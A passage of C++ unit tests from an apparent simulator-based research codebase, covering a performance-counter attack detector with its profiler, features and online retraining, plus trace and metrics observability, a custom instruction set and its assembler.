  EXPECT_NE(ra.windows[0].delta, rb.windows[0].delta);
}

TEST(Profiler, GroundTruthFlagsInjectedWindows) {
  // A host that execve's a child mid-run: windows during the child must be
  // flagged, windows before/after must not.
  test::SimHarness h;
  h.add_program(
      "_start:\n"
      "  movi r13, 40000\n"
      "w1: addi r4, r4, 1\n"
      "  addi r13, r13, -1\n"
      "  bnez r13, w1\n"
      "  movi r0, 2\n"
      "  movi r1, path\n"
      "  syscall\n"
      "  movi r13, 40000\n"
      "w2: addi r4, r4, 1\n"
      "  addi r13, r13, -1\n"
      "  bnez r13, w2\n"
      "  movi r1, 0\n"
      "  call exit_\n"
      ".data\npath: .asciz \"/bin/child\"\n",
      "/bin/host");
  h.add_program(
      "_start:\n"
      "  movi r13, 60000\n"
      "c1: addi r4, r4, 1\n"
      "  addi r13, r13, -1\n"
      "  bnez r13, c1\n"
      "  movi r1, 0\n"
      "  call exit_\n",
      "/bin/child", 0x200000);
  ProfilerConfig cfg;
  cfg.window_cycles = 10'000;
  const auto r = profile_run_strings(h.kernel(), "/bin/host", {}, cfg);
  EXPECT_EQ(r.stop, StopReason::kHalted);
  const std::size_t injected = r.injected_window_count();
  EXPECT_GT(injected, 2u);
  EXPECT_LT(injected, r.windows.size());
  EXPECT_FALSE(r.windows.front().injected);
  EXPECT_FALSE(r.windows.back().injected);
}

TEST(Features, UniverseCoversEventsAndAggregates) {
  EXPECT_EQ(feature_universe_size(), sim::kEventCount + 2);
  EXPECT_EQ(feature_name(0), "cycles");
  EXPECT_EQ(feature_name(sim::kEventCount), "total_cache_misses");
  EXPECT_EQ(feature_name(sim::kEventCount + 1), "total_cache_accesses");
  EXPECT_THROW(feature_name(feature_universe_size()), Error);
}

TEST(Features, VectorNormalisesPerKiloInstruction) {
  sim::PmuSnapshot delta{};
  delta[static_cast<std::size_t>(Event::kInstructions)] = 2000;
  delta[static_cast<std::size_t>(Event::kL1dMisses)] = 50;
  delta[static_cast<std::size_t>(Event::kCycles)] = 8000;
  const auto f = feature_vector(delta);
  EXPECT_DOUBLE_EQ(f[static_cast<std::size_t>(Event::kL1dMisses)], 25.0);
  EXPECT_DOUBLE_EQ(f[static_cast<std::size_t>(Event::kCycles)], 4000.0);
  EXPECT_DOUBLE_EQ(f[static_cast<std::size_t>(Event::kInstructions)], 2000.0);
}

TEST(Features, PaperSixAreDistinctAndValid) {
  const auto idx = paper_feature_indices();
  ASSERT_EQ(idx.size(), 6u);
  for (const auto i : idx) EXPECT_LT(i, feature_universe_size());
  EXPECT_EQ(feature_name(idx[0]), "total_cache_misses");
  EXPECT_EQ(feature_name(idx[3]), "branch_mispredicts");
}

TEST(Features, VisiblePoolExcludesForensicCounters) {
  const auto vis = detector_visible_features();
  for (const auto i : vis) {
    const auto n = feature_name(i);
    EXPECT_NE(n, "clflushes");
    EXPECT_NE(n, "spec_loads");
    EXPECT_NE(n, "rsb_mispredicts");
  }
  // All paper-6 features remain visible.
  for (const auto p : paper_feature_indices()) {
    EXPECT_NE(std::find(vis.begin(), vis.end(), p), vis.end());
  }
}

// --- detector ---------------------------------------------------------------

ml::Dataset labelled_windows(const std::string& app, int label,
                             std::uint64_t scale) {
  const auto r = profile_workload(app, scale);
  return windows_to_dataset(r.windows, label);
}

TEST(Detector, SeparatesDistinctWorkloads) {
  // Stand-in for benign-vs-attack: two very different apps.
  ml::Dataset train = labelled_windows("bitcount", 0, 4000);
  train.append_all(labelled_windows("pointer_chase", 1, 60));
  DetectorConfig cfg;
  cfg.classifier = "LR";
  cfg.feature_count = 4;
  HidDetector det(cfg);
  det.fit(train);
  EXPECT_TRUE(det.fitted());
  EXPECT_EQ(det.selected_features().size(), 4u);

  const auto bc = profile_workload("bitcount", 4000);
  const auto pc = profile_workload("pointer_chase", 60);
  EXPECT_LT(det.detection_rate(bc.windows), 0.2);
  EXPECT_GT(det.detection_rate(pc.windows), 0.8);
}

TEST(Detector, ExplicitFeatureListIsHonoured) {
  ml::Dataset train = labelled_windows("bitcount", 0, 2000);
  train.append_all(labelled_windows("stream", 1, 60));
  DetectorConfig cfg;
  cfg.features = paper_feature_indices();
  HidDetector det(cfg);
  det.fit(train);
  EXPECT_EQ(det.selected_features(), paper_feature_indices());
}

TEST(Detector, EvaluateProducesConfusion) {
  ml::Dataset train = labelled_windows("bitcount", 0, 2000);
  train.append_all(labelled_windows("pointer_chase", 1, 60));
  DetectorConfig cfg;
  cfg.classifier = "SVM";
  HidDetector det(cfg);
  det.fit(train);
  const auto cm = det.evaluate(train);
  EXPECT_GT(cm.balanced_accuracy(), 0.9);
}

TEST(Detector, IncrementalUpdateAdaptsWithoutCollapse) {
  ml::Dataset train = labelled_windows("bitcount", 0, 2000);
  train.append_all(labelled_windows("basicmath", 0, 600));
  train.append_all(labelled_windows("pointer_chase", 1, 60));
  DetectorConfig cfg;
  cfg.classifier = "MLP";
  cfg.online_mode = OnlineMode::kIncremental;
  // Rich feature set so the novel class is distinguishable from the old
  // benign apps at all (Fisher top-4 for the initial task need not be).
  cfg.features = paper_feature_indices();
  HidDetector det(cfg);
  det.fit(train);

  // New attack behaviour: compute-like windows (near the benign side at
  // first) get labelled attack.
  const auto novel = profile_workload("sha", 200);
  EXPECT_LT(det.detection_rate(novel.windows), 0.5) << "novel evades at first";
  // As in the campaign, each online batch carries the newly labelled
  // attack windows together with freshly profiled benign windows.
  const auto benign = profile_workload("bitcount", 2000);
  for (int i = 0; i < 3; ++i) {
    ml::Dataset batch = windows_to_dataset(novel.windows, 1);
    batch.append_all(windows_to_dataset(benign.windows, 0));
    det.augment_and_refit(batch);
  }
  EXPECT_GT(det.detection_rate(novel.windows), 0.8) << "update must adapt";
  // The benign view must not collapse wholesale. Some drift is inherent to
  // warm-start online updates (that imperfection is exactly what the
  // moving-target attack exploits — see the campaign-level tests for the
  // realistic FPR, which stays near zero there).
  EXPECT_LT(det.detection_rate(benign.windows), 0.95);
  // A full retrain from the accumulated dataset restores clean separation.
  DetectorConfig full = cfg;
  full.online_mode = OnlineMode::kFullRetrain;
  HidDetector fresh(full);
  fresh.fit(train);
  ml::Dataset batch = windows_to_dataset(novel.windows, 1);
  batch.append_all(windows_to_dataset(benign.windows, 0));
  fresh.augment_and_refit(batch);
  EXPECT_LT(fresh.detection_rate(benign.windows), 0.2);
  EXPECT_GT(fresh.detection_rate(novel.windows), 0.8);
}

TEST(Detector, FullRetrainModeAlsoAdapts) {
  ml::Dataset train = labelled_windows("bitcount", 0, 2000);
  train.append_all(labelled_windows("pointer_chase", 1, 60));
  DetectorConfig cfg;
  cfg.classifier = "LR";
  cfg.online_mode = OnlineMode::kFullRetrain;
  HidDetector det(cfg);
  det.fit(train);
  const std::size_t before = det.training_size();
  const auto novel = profile_workload("stream", 60);
  det.augment_and_refit(windows_to_dataset(novel.windows, 1));
  EXPECT_GT(det.training_size(), before);
  EXPECT_GT(det.detection_rate(novel.windows), 0.8);
}

TEST(Detector, StatsCountRetrainEventsInIncrementalMode) {
  ml::Dataset train = labelled_windows("bitcount", 0, 2000);
  train.append_all(labelled_windows("pointer_chase", 1, 60));
  DetectorConfig cfg;
  cfg.classifier = "MLP";
  cfg.online_mode = OnlineMode::kIncremental;
  cfg.features = paper_feature_indices();
  HidDetector det(cfg);
  EXPECT_EQ(det.stats().retrain_events(), 0u);

  det.fit(train);
  // The initial fit is one full (re)train; nothing incremental yet.
  EXPECT_EQ(det.stats().full_refits, 1u);
  EXPECT_EQ(det.stats().incremental_updates, 0u);
  EXPECT_EQ(det.stats().augmented_rows, 0u);
  EXPECT_EQ(det.stats().retrain_events(), 1u);

  const auto novel = profile_workload("stream", 60);
  const auto batch = windows_to_dataset(novel.windows, 1);
  for (std::uint64_t i = 1; i <= 3; ++i) {
    det.augment_and_refit(batch);
    EXPECT_EQ(det.stats().full_refits, 1u) << "incremental mode never refits";
    EXPECT_EQ(det.stats().incremental_updates, i);
    EXPECT_EQ(det.stats().augmented_rows, i * batch.size());
    EXPECT_EQ(det.stats().retrain_events(), 1u + i);
  }
}

TEST(Detector, StatsCountRetrainEventsInFullRetrainMode) {
  ml::Dataset train = labelled_windows("bitcount", 0, 2000);
  train.append_all(labelled_windows("pointer_chase", 1, 60));
  DetectorConfig cfg;
  cfg.classifier = "LR";
  cfg.online_mode = OnlineMode::kFullRetrain;
  HidDetector det(cfg);
  det.fit(train);
  const auto novel = profile_workload("stream", 60);
  det.augment_and_refit(windows_to_dataset(novel.windows, 1));
  det.augment_and_refit(windows_to_dataset(novel.windows, 1));
  // fit() plus two full retrains, no incremental updates.
  EXPECT_EQ(det.stats().full_refits, 3u);
  EXPECT_EQ(det.stats().incremental_updates, 0u);
  EXPECT_EQ(det.stats().augmented_rows, 2u * novel.windows.size());
  EXPECT_EQ(det.stats().retrain_events(), 3u);
}

TEST(Detector, UsageErrors) {
  DetectorConfig cfg;
  HidDetector det(cfg);
  sim::PmuSnapshot s{};
  EXPECT_THROW(det.predict(s), Error);
  EXPECT_THROW(det.augment_and_refit(ml::Dataset{}), Error);
  EXPECT_THROW(det.fit(ml::Dataset{}), Error);
}

}  // namespace
}  // namespace crs::hid
