// Tier-5 deterministic-observability unit tier: the trace sink's merge and
// export invariants, histogram bucket math against a reference
// implementation, the Chrome trace validator, and the
// zero-overhead-when-disabled guarantees.
#include <gtest/gtest.h>

#include <cstring>
#include <random>
#include <string>
#include <thread>
#include <type_traits>
#include <vector>

#include "obs/metrics.hpp"
#include "obs/obs.hpp"
#include "obs/trace.hpp"

namespace {

using namespace crs;

// The disabled stand-in must be a true no-op: empty (so span-heavy code
// carries no state when CRSPECTRE_OBS=OFF) and API-compatible.
static_assert(sizeof(obs::NullScopedSpan) == 1,
              "NullScopedSpan must stay empty");
#if CRS_OBS_ENABLED
static_assert(std::is_same_v<obs::TraceSpan, obs::ScopedSpan>);
#else
static_assert(std::is_same_v<obs::TraceSpan, obs::NullScopedSpan>);
#endif

/// Quiesces the global sink + registry + lane allocator around each test.
class ObsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    obs::set_tracing_enabled(false);
    obs::TraceSink::instance().clear();
    obs::MetricsRegistry::instance().clear();
    obs::reset_lane_allocator();
  }
  void TearDown() override { SetUp(); }
};

TEST_F(ObsTest, DisabledTracingEmitsNothing) {
  ASSERT_FALSE(obs::tracing_enabled());
  obs::trace_instant("x", 10);
  obs::trace_counter("y", 20, 1.0);
  { obs::TraceSpan span("z", 30); }
  EXPECT_EQ(obs::TraceSink::instance().event_count(), 0u);
}

TEST_F(ObsTest, MergeOrdersByCycleThenLaneThenSeq) {
  if (!obs::kEnabled) GTEST_SKIP() << "built with CRSPECTRE_OBS=OFF";
  obs::set_tracing_enabled(true);
  // Emit out of cycle order within one buffer, across two lanes.
  {
    obs::LaneScope lane(obs::allocate_lane_block(2) + 1);
    obs::trace_instant("b", 100);
    obs::trace_instant("a", 50);
  }
  obs::trace_instant("c", 50);  // lane 0
  obs::trace_instant("d", 50);  // lane 0, later seq
  obs::set_tracing_enabled(false);

  const auto merged = obs::TraceSink::instance().merged();
  ASSERT_EQ(merged.size(), 4u);
  EXPECT_STREQ(merged[0].name, "c");  // cycle 50 lane 0 seq first
  EXPECT_STREQ(merged[1].name, "d");
  EXPECT_STREQ(merged[2].name, "a");  // cycle 50 lane 2
  EXPECT_STREQ(merged[3].name, "b");  // cycle 100
}

TEST_F(ObsTest, SpanNestingAndCsvShape) {
  if (!obs::kEnabled) GTEST_SKIP() << "built with CRSPECTRE_OBS=OFF";
  obs::set_tracing_enabled(true);
  {
    obs::TraceSpan outer("outer", 10);
    {
      obs::TraceSpan inner("inner", 20);
      obs::trace_instant("tick", 25, 3.5);
      inner.close(30);
    }
    outer.close(40);
  }
  obs::set_tracing_enabled(false);

  EXPECT_EQ(obs::TraceSink::instance().csv(),
            "cycle,lane,kind,name,value\n"
            "10,0,B,outer,0\n"
            "20,0,B,inner,0\n"
            "25,0,i,tick,3.5\n"
            "30,0,E,inner,0\n"
            "40,0,E,outer,0\n");
}

TEST_F(ObsTest, SpanDestructorClosesAtBeginCycle) {
  if (!obs::kEnabled) GTEST_SKIP() << "built with CRSPECTRE_OBS=OFF";
  obs::set_tracing_enabled(true);
  { obs::TraceSpan span("s", 7); }  // never close()d explicitly
  obs::set_tracing_enabled(false);
  const auto merged = obs::TraceSink::instance().merged();
  ASSERT_EQ(merged.size(), 2u);
  EXPECT_EQ(merged[0].kind, obs::TraceKind::kSpanBegin);
  EXPECT_EQ(merged[1].kind, obs::TraceKind::kSpanEnd);
  EXPECT_EQ(merged[1].cycle, 7u);
}

TEST_F(ObsTest, ChromeJsonValidatesAndCarriesLanesAsTids) {
  if (!obs::kEnabled) GTEST_SKIP() << "built with CRSPECTRE_OBS=OFF";
  obs::set_tracing_enabled(true);
  {
    obs::TraceSpan span("run", 1);
    obs::trace_counter("rate", 2, 0.75);
    {
      obs::LaneScope lane(obs::allocate_lane_block(1));
      obs::trace_instant("worker", 2);
    }
    span.close(9);
  }
  obs::set_tracing_enabled(false);

  const auto json = obs::TraceSink::instance().chrome_json();
  EXPECT_EQ(obs::validate_chrome_trace(json), "");
  EXPECT_NE(json.find("\"ph\":\"B\""), std::string::npos);
  EXPECT_NE(json.find("\"ph\":\"E\""), std::string::npos);
  EXPECT_NE(json.find("\"ph\":\"C\""), std::string::npos);
  EXPECT_NE(json.find("\"tid\":1"), std::string::npos);  // the worker lane
}

TEST_F(ObsTest, ChromeValidatorRejectsMalformedTraces) {
  EXPECT_NE(obs::validate_chrome_trace("not json"), "");
  EXPECT_NE(obs::validate_chrome_trace("{\"traceEvents\":5}"), "");
  // Unbalanced spans: an E without a B.
  EXPECT_NE(obs::validate_chrome_trace(
                "{\"traceEvents\":[{\"name\":\"x\",\"ph\":\"E\",\"ts\":1,"
                "\"pid\":1,\"tid\":0}]}"),
            "");
  // Mismatched nesting: B(a) B(b) E(a) E(b).
  EXPECT_NE(
      obs::validate_chrome_trace(
          "{\"traceEvents\":["
          "{\"name\":\"a\",\"ph\":\"B\",\"ts\":1,\"pid\":1,\"tid\":0},"
          "{\"name\":\"b\",\"ph\":\"B\",\"ts\":2,\"pid\":1,\"tid\":0},"
          "{\"name\":\"a\",\"ph\":\"E\",\"ts\":3,\"pid\":1,\"tid\":0},"
          "{\"name\":\"b\",\"ph\":\"E\",\"ts\":4,\"pid\":1,\"tid\":0}]}"),
      "");
  // Unclosed span at end of trace.
  EXPECT_NE(obs::validate_chrome_trace(
                "{\"traceEvents\":[{\"name\":\"x\",\"ph\":\"B\",\"ts\":1,"
                "\"pid\":1,\"tid\":0}]}"),
            "");
  // Well-formed minimal trace passes.
  EXPECT_EQ(obs::validate_chrome_trace(
                "{\"traceEvents\":["
                "{\"name\":\"x\",\"ph\":\"B\",\"ts\":1,\"pid\":1,\"tid\":0},"
                "{\"name\":\"x\",\"ph\":\"E\",\"ts\":2,\"pid\":1,\"tid\":0}]}"),
            "");
}

TEST_F(ObsTest, LaneScopeRestoresPreviousLane) {
  EXPECT_EQ(obs::current_lane(), 0u);
  {
    obs::LaneScope outer(5);
    EXPECT_EQ(obs::current_lane(), 5u);
    {
      obs::LaneScope inner(9);
      EXPECT_EQ(obs::current_lane(), 9u);
    }
    EXPECT_EQ(obs::current_lane(), 5u);
  }
  EXPECT_EQ(obs::current_lane(), 0u);
}

TEST_F(ObsTest, LaneBlocksAreContiguousAndProgramOrdered) {
  const auto a = obs::allocate_lane_block(4);
  const auto b = obs::allocate_lane_block(2);
  EXPECT_EQ(a, 1u);  // lane 0 is reserved for the serial main thread
  EXPECT_EQ(b, a + 4);
  obs::reset_lane_allocator();
  EXPECT_EQ(obs::allocate_lane_block(1), 1u);
}

// Threads emitting into distinct lanes must merge identically however the
// OS schedules them: the merged trace is a pure function of (cycle, lane).
TEST_F(ObsTest, ThreadedEmissionMergesDeterministically) {
  if (!obs::kEnabled) GTEST_SKIP() << "built with CRSPECTRE_OBS=OFF";
  const auto run_once = [] {
    obs::TraceSink::instance().clear();
    obs::reset_lane_allocator();
    obs::set_tracing_enabled(true);
    const auto base = obs::allocate_lane_block(4);
    std::vector<std::thread> threads;
    for (std::uint32_t t = 0; t < 4; ++t) {
      threads.emplace_back([t, base] {
        obs::LaneScope lane(base + t);
        for (std::uint64_t i = 0; i < 50; ++i) {
          obs::trace_instant("work", i, static_cast<double>(t));
        }
      });
    }
    for (auto& th : threads) th.join();
    obs::set_tracing_enabled(false);
    return obs::TraceSink::instance().csv();
  };
  const auto first = run_once();
  EXPECT_EQ(first, run_once());
  EXPECT_EQ(first, run_once());
}

// ---------------------------------------------------------------------------
// Histogram bucket math vs a reference implementation.

struct ReferenceHistogram {
  std::vector<double> bounds;
  std::vector<std::uint64_t> buckets;  // bounds.size() + 1

  explicit ReferenceHistogram(std::vector<double> b)
      : bounds(std::move(b)), buckets(bounds.size() + 1, 0) {}

  void observe(double v) {
    std::size_t i = 0;
    while (i < bounds.size() && v > bounds[i]) ++i;
    ++buckets[i];
  }
};

TEST_F(ObsTest, HistogramMatchesReferenceImplementation) {
  if (!obs::kEnabled) GTEST_SKIP() << "built with CRSPECTRE_OBS=OFF";
  static constexpr double kBounds[] = {-1.0, 0.0, 1.5, 10.0, 1e6};
  auto& hist = obs::MetricsRegistry::instance().histogram(
      "test.hist", std::span<const double>(kBounds));
  ReferenceHistogram ref({kBounds, kBounds + 5});

  std::mt19937_64 gen(42);
  std::uniform_real_distribution<double> dist(-5.0, 2e6);
  for (int i = 0; i < 10'000; ++i) {
    const double v = dist(gen);
    hist.observe(v);
    ref.observe(v);
  }
  // Boundary values land in the bucket whose bound they equal (v <= bound).
  for (const double edge : {-1.0, 0.0, 1.5, 10.0, 1e6}) {
    hist.observe(edge);
    ref.observe(edge);
  }

  ASSERT_EQ(hist.bucket_total(), ref.buckets.size());
  std::uint64_t total = 0;
  for (std::size_t i = 0; i < ref.buckets.size(); ++i) {
    EXPECT_EQ(hist.bucket_count(i), ref.buckets[i]) << "bucket " << i;
    total += ref.buckets[i];
  }
  EXPECT_EQ(hist.total_count(), total);
}

TEST_F(ObsTest, HistogramBucketIndexEdges) {
  static constexpr double kBounds[] = {1.0, 2.0};
  obs::Histogram h{std::span<const double>(kBounds)};
  EXPECT_EQ(h.bucket_index(0.5), 0u);
  EXPECT_EQ(h.bucket_index(1.0), 0u);  // inclusive upper bound
  EXPECT_EQ(h.bucket_index(1.1), 1u);
  EXPECT_EQ(h.bucket_index(2.0), 1u);
  EXPECT_EQ(h.bucket_index(2.1), 2u);  // overflow bucket
}

// ---------------------------------------------------------------------------
// Registry semantics.

TEST_F(ObsTest, RegistryFindOrCreateReturnsStableReferences) {
  auto& reg = obs::MetricsRegistry::instance();
  auto& c1 = reg.counter("a.count");
  auto& c2 = reg.counter("a.count");
  EXPECT_EQ(&c1, &c2);
  c1.add(3);
  c2.add(4);
  if (obs::kEnabled) {
    EXPECT_EQ(c1.value(), 7u);
  } else {
    EXPECT_EQ(c1.value(), 0u);  // disabled build: adds compile to nothing
  }
}

TEST_F(ObsTest, RegistryCsvIsSortedAndDeterministic) {
  if (!obs::kEnabled) GTEST_SKIP() << "built with CRSPECTRE_OBS=OFF";
  auto& reg = obs::MetricsRegistry::instance();
  reg.counter("z.last").add(2);
  reg.counter("a.first").add(1);
  reg.gauge("m.gauge").set(0.5);
  static constexpr double kBounds[] = {10.0};
  auto& h = reg.histogram("h.hist", std::span<const double>(kBounds));
  h.observe(5.0);
  h.observe(50.0);

  EXPECT_EQ(reg.csv(),
            "metric,kind,field,value\n"
            "a.first,counter,value,1\n"
            "h.hist,histogram,le_10,1\n"
            "h.hist,histogram,le_inf,1\n"
            "h.hist,histogram,count,2\n"
            "m.gauge,gauge,value,0.5\n"
            "z.last,counter,value,2\n");
  EXPECT_EQ(reg.csv(), reg.csv());
}

TEST_F(ObsTest, ResetValuesKeepsIdentity) {
  if (!obs::kEnabled) GTEST_SKIP() << "built with CRSPECTRE_OBS=OFF";
  auto& reg = obs::MetricsRegistry::instance();
  auto& c = reg.counter("keep.me");
  c.add(5);
  reg.reset_values();
  EXPECT_EQ(c.value(), 0u);
  EXPECT_EQ(&c, &reg.counter("keep.me"));
  c.add(1);
  EXPECT_EQ(reg.counter("keep.me").value(), 1u);
}

TEST_F(ObsTest, ClearEmptiesSinkAndInvalidatesRegistrations) {
  if (!obs::kEnabled) GTEST_SKIP() << "built with CRSPECTRE_OBS=OFF";
  obs::set_tracing_enabled(true);
  obs::trace_instant("before", 1);
  obs::TraceSink::instance().clear();
  obs::trace_instant("after", 2);  // re-registers against the new generation
  obs::set_tracing_enabled(false);
  const auto merged = obs::TraceSink::instance().merged();
  ASSERT_EQ(merged.size(), 1u);
  EXPECT_STREQ(merged[0].name, "after");
}

TEST_F(ObsTest, FormatMetricNumberIsCompactAndStable) {
  EXPECT_EQ(obs::format_metric_number(0.0), "0");
  EXPECT_EQ(obs::format_metric_number(3.0), "3");
  EXPECT_EQ(obs::format_metric_number(0.5), "0.5");
  EXPECT_EQ(obs::format_metric_number(-2.0), "-2");
  EXPECT_EQ(obs::format_metric_number(1e6), "1000000");
}

}  // namespace
