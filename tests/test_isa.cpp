#include <gtest/gtest.h>

#include "isa/isa.hpp"

namespace crs::isa {
namespace {

std::vector<Opcode> all_opcodes() {
  std::vector<Opcode> out;
  for (std::uint8_t i = 0; i < static_cast<std::uint8_t>(Opcode::kOpcodeCount);
       ++i) {
    out.push_back(static_cast<Opcode>(i));
  }
  return out;
}

class EncodeRoundTrip : public ::testing::TestWithParam<Opcode> {};

TEST_P(EncodeRoundTrip, DecodeInvertsEncode) {
  Instruction in;
  in.op = GetParam();
  in.rd = 3;
  in.rs1 = 7;
  in.rs2 = 15;
  in.imm = -12345;
  const auto bytes = encode(in);
  const auto out = decode(bytes);
  ASSERT_TRUE(out.has_value());
  EXPECT_EQ(*out, in);
}

TEST_P(EncodeRoundTrip, MnemonicRoundTrips) {
  const auto op = GetParam();
  const auto back = opcode_from_mnemonic(mnemonic(op));
  ASSERT_TRUE(back.has_value());
  EXPECT_EQ(*back, op);
}

TEST_P(EncodeRoundTrip, DisassembleIsNonEmptyAndStartsWithMnemonic) {
  Instruction in;
  in.op = GetParam();
  const std::string text = disassemble(in);
  EXPECT_EQ(text.rfind(std::string(mnemonic(in.op)), 0), 0u) << text;
}

INSTANTIATE_TEST_SUITE_P(AllOpcodes, EncodeRoundTrip,
                         ::testing::ValuesIn(all_opcodes()));

TEST(Isa, ImmediateEncodesFullInt32Range) {
  for (const std::int32_t imm :
       {INT32_MIN, -1, 0, 1, INT32_MAX, 0x10000, -0x10000}) {
    Instruction in{Opcode::kMovImm, 1, 0, 0, imm};
    const auto out = decode(encode(in));
    ASSERT_TRUE(out.has_value());
    EXPECT_EQ(out->imm, imm);
  }
}

TEST(Isa, DecodeRejectsIllegalOpcode) {
  std::array<std::uint8_t, kInstructionSize> bytes{};
  bytes[0] = static_cast<std::uint8_t>(Opcode::kOpcodeCount);
  EXPECT_FALSE(decode(bytes).has_value());
  bytes[0] = 0xff;
  EXPECT_FALSE(decode(bytes).has_value());
}

TEST(Isa, DecodeRejectsIllegalRegister) {
  std::array<std::uint8_t, kInstructionSize> bytes{};
  bytes[0] = static_cast<std::uint8_t>(Opcode::kAdd);
  bytes[1] = 16;  // rd out of range
  EXPECT_FALSE(decode(bytes).has_value());
}

TEST(Isa, DecodeRejectsShortBuffer) {
  std::array<std::uint8_t, 4> bytes{};
  EXPECT_FALSE(decode(bytes).has_value());
}

TEST(Isa, RegisterNamesRoundTrip) {
  for (int r = 0; r < kNumRegisters; ++r) {
    const auto back = register_from_name(register_name(r));
    ASSERT_TRUE(back.has_value());
    EXPECT_EQ(*back, r);
  }
  EXPECT_EQ(register_from_name("sp"), kStackPointer);
  EXPECT_EQ(register_from_name("r15"), kStackPointer);
  EXPECT_FALSE(register_from_name("r16").has_value());
  EXPECT_FALSE(register_from_name("bogus").has_value());
}

TEST(Isa, ControlFlowClassification) {
  EXPECT_TRUE(is_control_flow(Opcode::kBeqz));
  EXPECT_TRUE(is_control_flow(Opcode::kJmp));
  EXPECT_TRUE(is_control_flow(Opcode::kRet));
  EXPECT_TRUE(is_control_flow(Opcode::kCallReg));
  EXPECT_FALSE(is_control_flow(Opcode::kAdd));
  EXPECT_FALSE(is_control_flow(Opcode::kLoad));
  EXPECT_FALSE(is_control_flow(Opcode::kSyscall));
}

TEST(Isa, OperandUsageFlags) {
  EXPECT_TRUE(reads_rs1(Opcode::kAdd));
  EXPECT_TRUE(reads_rs2(Opcode::kAdd));
  EXPECT_TRUE(writes_rd(Opcode::kAdd));
  EXPECT_FALSE(reads_rs2(Opcode::kAddImm));
  EXPECT_FALSE(writes_rd(Opcode::kStore));
  EXPECT_TRUE(reads_rs2(Opcode::kStore));
  EXPECT_TRUE(writes_rd(Opcode::kPop));
  EXPECT_FALSE(reads_rs1(Opcode::kPop));
}

TEST(Isa, DisassembleFormatsMemoryOperands) {
  Instruction load{Opcode::kLoad, 3, 1, 0, 16};
  EXPECT_EQ(disassemble(load), "load r3, [r1+16]");
  Instruction store{Opcode::kStore, 0, 2, 4, -8};
  EXPECT_EQ(disassemble(store), "store [r2-8], r4");
}

TEST(Isa, DisassembleFormatsBranches) {
  Instruction b{Opcode::kBeqz, 0, 5, 0, 0x100};
  EXPECT_EQ(disassemble(b), "beqz r5, 0x100");
}

}  // namespace
}  // namespace crs::isa
