#include <gtest/gtest.h>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "isa/isa.hpp"
#include "support/error.hpp"

namespace crs::casm {
namespace {

using isa::Opcode;

isa::Instruction first_instruction(const sim::Program& p) {
  for (const auto& seg : p.segments) {
    if (seg.name == ".text") {
      const auto i = isa::decode(
          std::span<const std::uint8_t>(seg.bytes).first(isa::kInstructionSize));
      EXPECT_TRUE(i.has_value());
      return *i;
    }
  }
  ADD_FAILURE() << "no .text segment";
  return {};
}

TEST(Assembler, EncodesSimpleInstruction) {
  const auto p = assemble("movi r1, 42\n");
  const auto i = first_instruction(p);
  EXPECT_EQ(i.op, Opcode::kMovImm);
  EXPECT_EQ(i.rd, 1);
  EXPECT_EQ(i.imm, 42);
}

TEST(Assembler, ThreeRegisterForm) {
  const auto i = first_instruction(assemble("add r1, r2, sp\n"));
  EXPECT_EQ(i.op, Opcode::kAdd);
  EXPECT_EQ(i.rd, 1);
  EXPECT_EQ(i.rs1, 2);
  EXPECT_EQ(i.rs2, isa::kStackPointer);
}

TEST(Assembler, MemoryOperands) {
  const auto load = first_instruction(assemble("load r3, [r4+24]\n"));
  EXPECT_EQ(load.op, Opcode::kLoad);
  EXPECT_EQ(load.rs1, 4);
  EXPECT_EQ(load.imm, 24);

  const auto store = first_instruction(assemble("storeb [r4-8], r5\n"));
  EXPECT_EQ(store.op, Opcode::kStoreB);
  EXPECT_EQ(store.imm, -8);
  EXPECT_EQ(store.rs2, 5);

  const auto bare = first_instruction(assemble("load r1, [r2]\n"));
  EXPECT_EQ(bare.imm, 0);
}

TEST(Assembler, LabelBranchTargetsAreAbsolute) {
  const auto p = assemble(
      "start: nop\n"
      "loop: addi r1, r1, 1\n"
      "      bnez r1, loop\n");
  EXPECT_EQ(p.symbol("loop"), p.link_base + 8);
  // The branch (third instruction) encodes loop's absolute address.
  const auto& text = p.segments.front();
  const auto branch = isa::decode(
      std::span<const std::uint8_t>(text.bytes).subspan(16, 8));
  ASSERT_TRUE(branch.has_value());
  EXPECT_EQ(static_cast<std::uint32_t>(branch->imm), p.link_base + 8);
}

TEST(Assembler, LabelImmediatesProduceRelocations) {
  const auto p = assemble(
      "movi r1, data_item\n"
      "halt\n"
      ".data\n"
      "data_item: .word 7\n");
  ASSERT_FALSE(p.relocations.empty());
  const auto& rel = p.relocations.front();
  EXPECT_EQ(rel.kind, sim::RelocKind::kImm32);
  EXPECT_EQ(rel.offset, 4u);  // imm field of the first instruction
}

TEST(Assembler, WordLabelsProduceWord64Relocations) {
  const auto p = assemble(
      "halt\n"
      ".data\n"
      "tbl: .word tbl, 9\n");
  bool found = false;
  for (const auto& rel : p.relocations) {
    if (rel.kind == sim::RelocKind::kWord64) found = true;
  }
  EXPECT_TRUE(found);
}

TEST(Assembler, SectionsGetDistinctPermissions) {
  const auto p = assemble(
      "halt\n"
      ".rodata\n"
      ".ascii \"ro\"\n"
      ".data\n"
      ".byte 1\n");
  ASSERT_EQ(p.segments.size(), 3u);
  EXPECT_EQ(p.segments[0].perm, sim::kPermRX);
  EXPECT_EQ(p.segments[1].perm, sim::kPermRead);
  EXPECT_EQ(p.segments[2].perm, sim::kPermRW);
  // Page-aligned, non-overlapping, ordered.
  EXPECT_GT(p.segments[1].addr, p.segments[0].addr);
  EXPECT_EQ(p.segments[1].addr % sim::Memory::kPageSize, 0u);
  EXPECT_GT(p.segments[2].addr, p.segments[1].addr);
}

TEST(Assembler, DataDirectives) {
  const auto p = assemble(
      "halt\n"
      ".data\n"
      "a: .byte 1, 2, 0xff\n"
      "b: .word 0x1122334455667788\n"
      "c: .ascii \"hi\\n\"\n"
      "d: .asciz \"z\"\n"
      "e: .space 4, 0xaa\n");
  const auto& data = p.segments.back();
  EXPECT_EQ(data.bytes[0], 1);
  EXPECT_EQ(data.bytes[2], 0xff);
  EXPECT_EQ(data.bytes[3], 0x88);  // little-endian word
  EXPECT_EQ(data.bytes[10], 0x11);
  EXPECT_EQ(data.bytes[11], 'h');
  EXPECT_EQ(data.bytes[13], '\n');
  EXPECT_EQ(data.bytes[14], 'z');
  EXPECT_EQ(data.bytes[15], 0);
  EXPECT_EQ(data.bytes[16], 0xaa);
  EXPECT_EQ(p.symbol("e") - p.symbol("a"), 16u);
}

TEST(Assembler, AlignPadsWithinSection) {
  const auto p = assemble(
